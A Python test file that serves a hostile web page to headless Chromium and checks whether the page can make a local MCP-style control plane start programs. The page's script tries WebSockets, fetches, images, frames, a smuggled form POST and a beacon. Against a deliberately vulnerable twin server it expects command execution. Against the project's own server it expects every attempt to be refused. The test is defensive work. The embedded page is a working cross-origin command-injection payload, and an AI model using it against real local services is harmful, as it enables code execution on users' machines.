# SPDX-License-Identifier: Apache-2.0
"""A real browser renders a hostile page on the machine: what it reaches of a vulnerable control plane, and of ours."""

import http.server
import json
import os
import pathlib
import shutil
import subprocess
import threading
import unittest

import house as houses
import twin as twins

CHROMIUM = pathlib.Path("/usr/lib/chromium/chromium")

PAGE = """<!doctype html><title>a page</title><body><script>
const target = location.hash.slice(1);
const [host, touch, ...marks] = decodeURIComponent(target).split(" ");
const argv = number => "command=" + encodeURIComponent(touch) + "&arg=" + encodeURIComponent(marks[number]);
const params = number => "server_params=" + encodeURIComponent(btoa(JSON.stringify({command: touch, args: [marks[number]]})));
const message = JSON.stringify({jsonrpc: "2.0", id: 1, method: "tools/call", params: {name: "boom", arguments: {}}});

function socket(path, protocols) {
  return new Promise(done => {
    const socket = new WebSocket("ws://" + host + path, protocols);
    socket.onopen = () => { socket.send(message); done("open"); };
    socket.onerror = () => done("error");
    socket.onclose = () => done("error");
  });
}
async function request(path, options) {
  try {
    const answer = await fetch("http://" + host + path, options);
    return answer.type === "opaque" ? "opaque" : "answered " + answer.status;
  } catch (error) { return "error"; }
}
function element(name, attribute, path) {
  return new Promise(done => {
    const element = document.createElement(name);
    element.onload = () => done("loaded");
    element.onerror = () => done("error");
    element[attribute] = "http://" + host + path;
    document.body.append(element);
  });
}
function form(path) {
  return new Promise(done => {
    const frame = document.createElement("iframe");
    frame.name = "frame";
    document.body.append(frame);
    frame.onload = () => done("loaded");
    const form = document.createElement("form");
    form.method = "POST"; form.action = "http://" + host + path; form.target = "frame"; form.enctype = "text/plain";
    const field = document.createElement("input");
    field.name = message.slice(0, -1) + ',"'; field.value = '":0}';
    form.append(field);
    document.body.append(form);
    form.submit();
  });
}
const attempts = {
  "socket with argv": () => socket("/ws/trip?" + argv(0), ["mcp"]),
  "socket with parameters": () => socket("/ws/trip?" + params(1), ["mcp"]),
  "socket by name": () => socket("/ws/trip", ["mcp"]),
  "fetch without cors": () => request("/mcp/trip?" + argv(2), {method: "POST", mode: "no-cors", body: message}),
  "fetch with a preflight": () => request("/mcp/trip", {method: "POST", body: message,
    headers: {"Content-Type": "application/json", "Authorization": "Bearer TOKEN"}}),
  "a picture": () => element("img", "src", "/mcp/trip?" + argv(3)),
  "a frame": () => element("iframe", "src", "/mcp/trip?" + argv(4)),
  "a form": () => form("/mcp/trip?" + argv(5)),
  "a beacon": async () => navigator.sendBeacon("http://" + host + "/mcp/trip?" + argv(6), message) ? "sent" : "error",
};
(async () => {
  const outcomes = {};
  for (const [name, attempt] of Object.entries(attempts)) outcomes[name] = await attempt();
  await fetch("/report", {method: "POST", body: JSON.stringify(outcomes)});
})();
</script>
"""
MARKS = 7


class Site:
    """The attacker's web server: one page, and what the page found out."""

    def __init__(self, token):
        site = self
        self.outcomes = None
        self.reported = threading.Event()

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                body = PAGE.replace("TOKEN", token).encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def do_POST(self):
                site.outcomes = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                self.send_response(204)
                self.end_headers()
                site.reported.set()

            def log_message(self, *_):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def visit(self, browser, scratch, host, touch, marks, options, settle):
        """Renders the page in the browser and returns the outcome of each attempt.

        The browser lives until `settle` returns: a beacon leaves when it pleases, after the page's last word even.
        """
        target = "%20".join([host, touch, *map(str, marks)])
        # As root a browser refuses to use its own sandbox, which is not what is looked at here.
        process = subprocess.Popen(
            [browser, "--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-dev-shm-usage",
             "--disable-background-networking", "--no-proxy-server", f"--user-data-dir={scratch}/profile-{os.path.basename(browser)}",
             *options, f"http://127.0.0.1:{self.server.server_port}/#{target}"],
            stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True,
            env={"HOME": str(scratch), "PATH": "/usr/bin:/bin", "LANG": "C.UTF-8"})
        try:
            if not self.reported.wait(2 * houses.PATIENCE):
                raise AssertionError("the page did not come to its end")
            settle()
        finally:
            houses.kill_tree(process.pid)
            process.wait()
        return self.outcomes

    def close(self):
        self.server.shutdown()
        self.server.server_close()


@unittest.skipUnless(CHROMIUM.exists(), "no page is rendered by a real browser: chromium is not installed")
class BrowserTest(unittest.TestCase):
    def setUp(self):
        self.house = houses.House()
        self.addCleanup(self.house.__exit__, None, None, None)
        self.scratch = self.house.scratch
        self.touch = os.path.realpath(shutil.which("touch"))

    def attack(self, browser, host, token="dwt_stolen", options=(), settle=lambda marks: None):
        """The outcomes, and the marks of programs that the page started."""
        directory = self.scratch / f"marks-{host.rpartition(':')[2]}-{os.path.basename(browser)}"
        directory.mkdir()
        marks = [directory / f"mark{number}" for number in range(MARKS)]
        site = Site(token)
        try:
            outcomes = site.visit(
                str(browser), self.scratch, host, self.touch, marks, options, lambda: settle(marks))
        finally:
            site.close()
        return outcomes, sorted(path.name for path in directory.iterdir())

    def serve(self):
        house = self.house
        house.add("trip", houses.PYTHON, str(houses.SERVERS / "tripwire.py"), str(house.trips), write=[house.trips])
        house.seal()
        house.review("trip")
        self.started = house.trip_count()
        self.token = house.token()
        house.serve()
        return house

    def check_nothing_happened(self, house, outcomes, marks, expected):
        self.assertEqual([], marks)
        self.assertEqual(self.started, house.trip_count(), "a server was started")
        self.assertEqual([], house.audit("call.intent") + house.audit("caller.admitted"))
        reached = {name: outcome for name, outcome in outcomes.items()
                   if outcome == "open" or outcome.startswith("answered")}
        self.assertEqual({}, reached, "the page could talk to us or read an answer")
        refused = houses.wait_for(lambda: house.audit("refused"), "the records of the refusals")
        reasons = {record["data"]["reason"] for record in refused}
        self.assertIn(expected, reasons)
        # Of a browser that has ended nobody can say any more whose connection it was: then what it sent is judged.
        self.assertLessEqual(reasons, {"browser-peer", "browser-evidence"})
        house.check_audit()

    def test_the_page_runs_programs_through_the_vulnerable_twin(self):
        directory = self.scratch / "twin"
        directory.mkdir()
        with twins.Twin(self.scratch) as twin:
            outcomes, marks = self.attack(
                CHROMIUM, f"127.0.0.1:{twin.port}", settle=lambda marks: houses.wait_for(
                    lambda: all(mark.exists() for mark in marks), "a program for each way"))
        self.assertEqual([f"mark{number}" for number in range(MARKS)], marks, outcomes)
        self.assertEqual("open", outcomes["socket with argv"])
        self.assertEqual("open", outcomes["socket with parameters"])

    def test_the_page_gets_nothing_here_even_with_a_stolen_token(self):
        house = self.serve()
        outcomes, marks = self.attack(CHROMIUM, f"127.0.0.1:{house.port}", self.token)
        self.check_nothing_happened(house, outcomes, marks, "browser-peer")

    def test_a_browser_that_nobody_recognises_gets_nothing_either(self):
        house = self.serve()
        disguise = self.scratch / "reader"
        disguise.mkdir()
        for path in CHROMIUM.parent.iterdir():
            if path.name != CHROMIUM.name:
                (disguise / path.name).symlink_to(path)
        shutil.copy(CHROMIUM, disguise / "page-reader")
        # Its connections are opened by the process with the innocent command line, not by a part that says what it is.
        outcomes, marks = self.attack(
            disguise / "page-reader", f"127.0.0.1:{house.port}", self.token, ["--enable-features=NetworkServiceInProcess2"])
        self.check_nothing_happened(house, outcomes, marks, "browser-evidence")
        self.assertNotIn("browser-peer", {record["data"]["reason"] for record in house.audit("refused")})


if __name__ == "__main__":
    unittest.main()
